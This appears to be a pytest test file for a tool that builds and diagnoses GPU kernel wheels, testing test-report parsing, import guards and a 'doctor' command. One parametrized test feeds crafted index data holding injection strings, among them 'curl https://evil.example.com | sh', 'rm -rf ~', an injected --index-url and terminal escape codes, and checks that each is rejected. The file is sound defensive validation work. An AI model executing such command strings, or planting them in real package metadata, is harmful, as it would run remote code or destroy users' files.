"""Proving wheels by running them: the import gate (a wheel loaded with a torch, its missing
symbols named, its ops and their torch.compile readiness read), `factory test` (the kernel's
own tests against its wheel), the import guard that names its index, and `factory doctor`."""

from __future__ import annotations

import json
import sys
import types
from pathlib import Path
from typing import Any

import pytest

from factory import doctor
from factory.compile.generated import import_guard
from factory.errors import BuildError
from factory.prove.load import importable_modules
from factory.prove.tests import TestReport, _report

from ..support.factory import REPO, factory_main, write
from ..support.wheels import CELL, GPU_FACTS, WHEEL

# ---- pure parts ----------------------------------------------------------------------------


def test_the_modules_a_wheel_makes_importable() -> None:
    files = ["img2gray/__init__.py", "img2gray/_ops.py", "img2gray-1.0.dist-info/METADATA",
             "causal_conv1d_cuda.cpython-312-x86_64-linux-gnu.so", "helper.py",
             "causal_conv1d.libs/libx.so", "pkg.data/scripts/tool", "pkg/sub/__init__.py"]
    assert importable_modules(files) == ["causal_conv1d_cuda", "helper", "img2gray"]


def plugin_report(**fields: Any) -> dict[str, Any]:
    """A report as the factory's pytest plugin writes it."""
    return {"passed": 5, "failed": 0, "errors": 0, "skipped": 6,
            "gpus": ["NVIDIA H100 80GB HBM3"], "torch": "2.11.0", "cuda": "13.0",
            "collected": 14, "chosen": 14, "ended": 11, "how": "", "stopped": "", "files": [],
            **fields}


def test_the_plugins_report_becomes_the_report_and_its_verdict(tmp_path: Path) -> None:
    facts = tmp_path / "report.json"
    facts.write_text(json.dumps(plugin_report(failed=1, errors=2)))
    report = _report(facts, tmp_path / "progress.json", 3.25, 1)
    assert (report.passed, report.failed, report.errors, report.skipped) == (5, 1, 2, 6)
    assert report.verdict == "failed" and report.reason == "1 failed, 2 error(s)"
    assert report.describe() == ("5 passed, 1 failed, 2 error(s), 6 skipped on NVIDIA H100 80GB "
                                 "HBM3 in 3.2 s; 11 of 14 cases")
    assert TestReport.from_json(report.to_json()) == report
    assert TestReport.from_json({"passed": "x"}) is None

    facts.write_text(json.dumps(plugin_report(
        ended=534, collected=1800, how="each test function once, then more cases in a seeded "
        "order (seed 0) until the 10 min budget was spent",
        stopped="the 10 min budget was spent",
        files=[{"path": "tests/test_gen.py", "kind": "needs",
                "detail": "the module 'transformers' is not installed"},
               {"path": "tests/test_bench.py", "kind": "script", "detail": "run as python x"},
               {"path": "tests/odd.py", "kind": "made-up", "detail": "dropped"}])))
    report = _report(facts, tmp_path / "progress.json", 150.0, 2)
    assert report.verdict == "proven" and report.reason == ""
    assert report.describe().endswith(
        "; 534 of 1,800 cases (each test function once, then more cases in a seeded order "
        "(seed 0) until the 10 min budget was spent); 1 file(s) not run (see the log)")
    assert [note.kind for note in report.files] == ["needs", "script"]
    assert TestReport.from_json(report.to_json()) == report


@pytest.mark.parametrize(("fields", "verdict", "reason"), [
    ({"passed": 0, "skipped": 0, "ended": 0}, "untested", "no test was collected"),
    ({"passed": 0, "skipped": 4}, "untested", "no test ran: all 4 skipped"),
    ({"passed": 0, "skipped": 0, "files": [
        {"path": "tests/test_a.py", "kind": "error", "detail": "ImportError: cannot import "
         "name 'gone' from 'kernel'"}], "errors": 1}, "failed",
     "tests/test_a.py: ImportError: cannot import name 'gone' from 'kernel'"),
    ({"passed": 0, "skipped": 0, "files": [
        {"path": "tests/test_a.py", "kind": "needs", "detail": "the module 'x' is not "
         "installed"}]}, "untested",
     "no test was collected (tests/test_a.py: the module 'x' is not installed)"),
])
def test_a_run_that_proves_nothing_is_untested_and_says_why(tmp_path: Path, fields: dict[str, Any],
                                                            verdict: str, reason: str) -> None:
    facts = tmp_path / "report.json"
    facts.write_text(json.dumps(plugin_report(**fields)))
    report = _report(facts, tmp_path / "progress.json", 1.0, 5)
    assert (report.verdict, report.reason) == (verdict, reason)


def test_tests_that_could_not_start_are_untested_with_the_reason() -> None:
    report = TestReport.untested("pytest cannot be had offline", "2.11.0")
    assert (report.verdict, report.reason) == ("untested", "pytest cannot be had offline")
    assert report.describe() == "not run: pytest cannot be had offline"
    assert TestReport.from_json(report.to_json()) == report
    # records written before verdicts existed read as they were
    old = {"passed": 3, "failed": 0, "errors": 0, "skipped": 1, "gpus": [], "seconds": 2.0}
    assert TestReport.from_json(old) == TestReport(3, 0, 0, 1, (), 2.0)


@pytest.mark.parametrize("damaged", ["{", "[]", json.dumps({"passed": 1}),
                                     json.dumps(plugin_report(gpus="H100")),
                                     json.dumps(plugin_report(files=7))])
def test_a_damaged_report_is_a_failure_that_says_so(tmp_path: Path, damaged: Any) -> None:
    facts = tmp_path / "report.json"
    facts.write_text(damaged)
    with pytest.raises(BuildError, match=r"pytest ended \(exit 3\) without the factory's "
                                         r"report of the run"):
        _report(facts, tmp_path / "progress.json", 1.0, 3)


def run_guard(guard: str, version: str, cuda: str | None) -> str:
    """The guard's code run against a torch of this version and CUDA; its ImportError."""
    torch = types.SimpleNamespace(__version__=version, version=types.SimpleNamespace(cuda=cuda))
    with pytest.raises(ImportError) as refused:
        exec(guard, {"torch": torch})
    return str(refused.value)


def test_the_guard_names_the_full_url_of_the_index_when_it_is_known() -> None:
    guard = import_guard("img2gray", "1.0.0+cu130torch211", "2.11", "13.0", "cu{cuda}torch{torch}",
                         index_url="https://kernels.example.org/wheels")
    message = run_guard(guard, "2.12.0+cu130", "13.0")
    assert "from the index https://kernels.example.org/wheels/cu130torch212/simple," in message
    assert "CUDA 12" not in message
    message = run_guard(guard, "2.11.0+cu128", "12.8")
    assert "https://kernels.example.org/wheels/cu128torch211/simple" in message
    unknown = import_guard("img2gray", "1.0.0+cu130torch211", "2.11", "13.0",
                           "cu{cuda}torch{torch}")
    assert "the 'cu130torch212' index (.../cu130torch212/simple)" in run_guard(
        unknown, "2.12.0+cu130", "13.0")


def test_base_url_must_be_a_plain_http_url(capsys: pytest.CaptureFixture[str],
                                           tmp_path: Path) -> None:
    for bad in ("ftp://example.org/x", "https://user:secret@example.org/x", "example.org",
                "https://example.org/x?token=abcdef0123456789"):
        result = factory_main("build", REPO / "matrix.yaml", "--out", tmp_path / "out",
                              "--base-url", bad, capsys=capsys)
        assert result.exit == 2, bad
        assert "--base-url" in result.stdout + result.stderr and "secret" not in result.stdout
    assert not (tmp_path / "out").exists()




def test_doctor_reads_specifiers_and_gpu_code_as_pip_and_the_driver_do() -> None:
    assert doctor._holds("==2.11.*", "2.11.0+cu130") and not doctor._holds("==2.11.*", "2.12.0")
    assert doctor._holds(">=2.10,<3", "2.13.1") and not doctor._holds(">=2.10,<3", "3.0")
    assert doctor._holds("==2.11.0", "2.11") and not doctor._holds("!=2.11.*", "2.11.3")
    assert doctor._holds("~=2.11.1", "2.11.5") and not doctor._holds("~=2.11.1", "2.12.0")
    assert doctor._sm_fits(["sm_80"], "8.6") and not doctor._sm_fits(["sm_86"], "8.0")
    assert not doctor._sm_fits(["sm_80"], "9.0") and doctor._sm_fits(["compute_80"], "9.0")
    assert doctor._sm_fits(["sm_90a"], "9.0") and not doctor._sm_fits(["sm_90a"], "10.0")


def test_doctor_says_why_a_wheel_does_not_fit() -> None:
    assert doctor.why_not(WHEEL, CELL, GPU_FACTS) == []
    cpu = {**GPU_FACTS, "torch": {"version": "2.13.0+cpu", "cuda": None}, "driver": None}
    assert doctor.why_not(WHEEL, CELL, cpu) == [
        "it needs torch==2.11.*, this Python has torch 2.13.0+cpu",
        "it is built for CUDA 13.0, and torch 2.13.0+cpu is a build without CUDA"]
    old = {**GPU_FACTS, "glibc": "2.31", "machine": "aarch64",
           "driver": {"cuda": "12.8", "gpus": [{"name": "NVIDIA A100", "sm": "8.0"}]}}
    assert doctor.why_not(WHEEL, CELL, old) == [
        "it is for x86_64, this machine is aarch64",
        "it needs a driver for CUDA 13, this driver supports CUDA 12.8",
        "it holds no code for the NVIDIA A100 (SM 8.0): it has compute_90 sm_90"]
    cp311 = {**WHEEL, "filename": "relu_scale-1.0.0+cu130torch211-cp311-cp311-"
                                  "manylinux_2_34_x86_64.whl"}
    assert doctor.why_not(cp311, CELL, GPU_FACTS) == ["it is for CPython 3.11, this is 3.12.3"]
    assert doctor.why_not(WHEEL, CELL, {**GPU_FACTS, "glibc": "2.31"}) == [
        "it needs glibc 2.34 or newer, this machine has 2.31"]


def test_doctor_pins_an_older_release_when_the_newest_cannot_run_here(tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """pip would take 1.1.0, whose wheel has no code for this GPU: the doctor pins 1.0.0 and
    says why 1.1.0 does not fit (the browse data as `factory index` writes it, read through a
    file:// URL)."""
    sm80 = {**WHEEL, "filename": WHEEL["filename"].replace("1.0.0", "1.1.0"),
            "gpu_code": ["sm_80"], "label": "cu130torch211"}
    fits = {**WHEEL, "label": "cu130torch211"}
    cell = {"torch": "2.11", "cuda": "13.0", "label": "cu130torch211", "status": "built"}
    write(tmp_path / "browse.json", json.dumps(
        {"packages": [{"name": "img2gray", "project": "img2gray", "latest": "1.1.0"}]}))
    write(tmp_path / "browse" / "img2gray.json", json.dumps({"name": "img2gray", "versions": [
        {"version": "1.1.0", "cells": [{**cell, "wheels": [sm80]}], "anywhere": []},
        {"version": "1.0.0", "cells": [{**cell, "wheels": [fits]}], "anywhere": []}]}))
    (result,) = doctor.diagnose(tmp_path.as_uri() + "/", "img2gray", GPU_FACTS)
    root = tmp_path.as_uri() + "/"
    # pip is pinned to the labelled version (no project of PyPI can answer it), uv to the
    # release (it asks --index first)
    assert result["fits"]["pip"] == ("pip install img2gray==1.0.0+cu130torch211 "
                                     f"--extra-index-url {root}cu130torch211/simple/")
    assert result["fits"]["uv"] == \
        f"uv pip install img2gray==1.0.0 --index {root}cu130torch211/simple/"
    (miss,) = result["misses"]
    assert miss["version"] == "1.1.0" and miss["reasons"] == [
        "it holds no code for the NVIDIA H100 80GB HBM3 (SM 9.0): it has sm_80"]
    no_gpu = {**GPU_FACTS, "driver": None}
    (newest,) = doctor.diagnose(root, None, no_gpu)
    assert newest["fits"]["pip"].startswith(
        "pip install img2gray==1.1.0+cu130torch211 --extra-index-url")
    assert newest["fits"]["uv"].startswith("uv pip install img2gray --index")


GOOD_RELEASE: dict[str, Any] = {"version": "1.0.0", "cells": [{"torch": "2.11", "cuda": "13.0",
                                               "label": "cu130torch211",
                                               "wheels": [{**WHEEL, "label": "cu130torch211"}]}],
                "anywhere": []}


def crafted_index(root: Path, browse: object, package: object = None) -> str:
    write(root / "browse.json", json.dumps(browse))
    if package is not None:
        write(root / "browse" / "img2gray.json", json.dumps(package))
    return root.as_uri() + "/"


def replaced_wheel(**fields: object) -> dict[str, Any]:
    cell = {**GOOD_RELEASE["cells"][0], "wheels": [{**WHEEL, **fields}]}
    return {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [cell]}]}


PACKAGES: dict[str, Any] = {"packages": [{"name": "img2gray", "project": "img2gray"}]}


@pytest.mark.parametrize(("browse", "package", "said"), [
    ([1, 2], None, "holds an index that is not a table"),
    ({"packages": {"img2gray": 1}}, None, "holds packages that is not a list"),
    ({"packages": ["img2gray"]}, None, "holds a package that is not a table"),
    ({"packages": [{"name": "x; curl https://evil.example.com | sh"}]}, None,
     "holds a package name that is not one"),
    ({"packages": [{"name": "img2gray\x1b[2J"}]}, None, "holds a package name that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": {"1.0": 1}}, "holds versions that is not a list"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "version": "1.0 && rm -rf ~"}]},
     "holds a version that is not one"),
    (PACKAGES, replaced_wheel(filename="img2gray\x1b[31m.whl"),
     "holds a wheel file name that is not one"),
    (PACKAGES, replaced_wheel(filename="img2gray.whl"), "holds a wheel file name that is not one"),
    (PACKAGES, replaced_wheel(filename="img2gray-1.0.0-cp39.whl"),
     "holds a wheel file name that is not one"),
    (PACKAGES, replaced_wheel(label="cu130 --index-url https://evil.example.com"),
     "holds a label that is not one"),
    (PACKAGES, replaced_wheel(torch="==2.11.* ; curl evil"), "holds a torch requirement"),
    (PACKAGES, replaced_wheel(gpu_code={"sm_90": True}), "holds GPU code that is not a list"),
    (PACKAGES, replaced_wheel(gpu_code=[90]), "holds a GPU code that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [
        {**GOOD_RELEASE["cells"][0], "cuda": 13}]}]}, "holds a CUDA version that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": "all"}]},
     "holds cells that is not a list"),
    (PACKAGES, "nothing", "holds a package that is not a table"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [
        {**GOOD_RELEASE["cells"][0], "tests": {"passed": 3, "verdict": "trust me"}}]}]},
     "holds a test verdict that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [
        {**GOOD_RELEASE["cells"][0], "tests": {"passed": 0, "verdict": "untested",
                                                "reason": "ok\x1b[2J"}}]}]},
     "holds a test verdict's reason that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [
        {**GOOD_RELEASE["cells"][0], "tests": {"passed": "all"}}]}]},
     "holds a test count that is not one"),
])
def test_doctor_takes_a_crafted_index_as_data_and_says_so_in_one_line(tmp_path: Path,
        capsys: pytest.CaptureFixture[str], browse: Any, package: Any, said: str) -> None:
    url = crafted_index(tmp_path, browse, package)
    assert doctor.main([url]) == 1
    captured = capsys.readouterr()
    (line,) = captured.err.splitlines()
    assert line.startswith("error: the index's browse data ") and said in line
    assert "\x1b" not in captured.out + captured.err


def test_doctor_composes_its_commands_itself_and_quotes_what_it_was_given(tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    crafted_index(tmp_path / "a&b", PACKAGES, {"name": "img2gray", "versions": [GOOD_RELEASE]})
    url = f"file://{tmp_path}/a&b/"  # the URL as the user gave it: `&` would end a command
    (result,) = doctor.diagnose(url, "img2gray", GPU_FACTS)
    index = f"{url}cu130torch211/simple/"
    assert result["fits"]["pip"] == \
        f"pip install img2gray==1.0.0+cu130torch211 --extra-index-url '{index}'"
    assert result["fits"]["uv"] == f"uv pip install img2gray --index '{index}'"
    deep = crafted_index(tmp_path / "deep", json.loads("[" * 100 + "]" * 100))
    assert doctor.main([deep]) == 1 and len(capsys.readouterr().err.splitlines()) == 1


@pytest.mark.parametrize(("tests", "said"), [
    (None, "not tested: it was built without its tests (factory build --test)"),
    ({"passed": 14, "verdict": "proven", "gpus": ["NVIDIA H100 80GB HBM3"]},
     "proven: 14 of its own tests passed on NVIDIA H100 80GB HBM3"),
    ({"passed": 8, "gpus": []}, "proven: 8 of its own tests passed with no GPU"),  # older
    ({"passed": 0, "verdict": "untested", "reason": "the kernel has no tests/ folder"},
     "untested: its tests could not prove it (the kernel has no tests/ folder)"),
])
def test_doctor_says_what_the_kernels_own_tests_said_of_the_wheel_that_fits(tmp_path: Path,
        tests: dict[str, Any] | None, said: str) -> None:
    cell = {**GOOD_RELEASE["cells"][0], **({"tests": tests} if tests else {})}
    url = crafted_index(tmp_path, PACKAGES, {"name": "img2gray", "versions": [
        {**GOOD_RELEASE, "cells": [cell]}]})
    (result,) = doctor.diagnose(url, "img2gray", GPU_FACTS)
    lines = doctor.describe_diagnosis([result])
    assert lines[4] == f"  {said}", lines


def test_doctor_without_arguments_reports_this_machine(capsys: pytest.CaptureFixture[str]) -> None:
    assert doctor.main([]) == 0
    out = capsys.readouterr().out
    assert f"Python     {sys.version.split()[0]}" in out and "glibc" in out
    assert "driver" in out


def test_doctor_names_an_index_it_cannot_read(capsys: pytest.CaptureFixture[str]) -> None:
    assert doctor.main(["http://127.0.0.1:9/nothing/"]) == 1
    assert capsys.readouterr().err.startswith("error: no kernel-wheel-factory index at ")


@pytest.mark.parametrize("url", ["http://ci:SECRETPASS@127.0.0.1:9/",
                                 "http://127.0.0.1:9/simple/?token=SECRETTOKEN",
                                 "http://SECRETTOKEN@127.0.0.1:9/?key=SECRET%2FKEY"])
def test_doctor_never_prints_what_an_index_url_carries(url: str,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    """User information and query values of the index URL are written as ***, in every line
    doctor prints (the served doctor.py is the same file)."""
    assert doctor.main([url]) == 1
    out, err = capsys.readouterr()
    assert "SECRET" not in out + err and "***" in err, err
    assert err.startswith("error: ") and err.count("\n") == 1


def test_doctor_gives_a_pure_python_wheel_the_verdict_its_build_recorded(tmp_path: Path) -> None:
    """A wheel that runs anywhere carries its build's test verdict on the browse page: the
    doctor repeats it (with its reason), and says 'built without its tests' only of a wheel
    whose build recorded none."""
    reason = "its cell names no torch to run them with"
    anywhere: dict[str, Any] = {"filename": "img2gray-1.0.0-py3-none-any.whl", "gpu_code": [],
                                "label": None,
                "tests": {"passed": 0, "verdict": "untested", "reason": reason}}
    url = crafted_index(tmp_path, PACKAGES, {"name": "img2gray", "versions": [
        {"version": "1.0.0", "cells": [], "anywhere": [anywhere]}]})
    (result,) = doctor.diagnose(url, "img2gray", GPU_FACTS)
    assert result["fits"]["wheel"] == anywhere["filename"]
    assert f"  untested: its tests could not prove it ({reason})" in \
        doctor.describe_diagnosis([result])
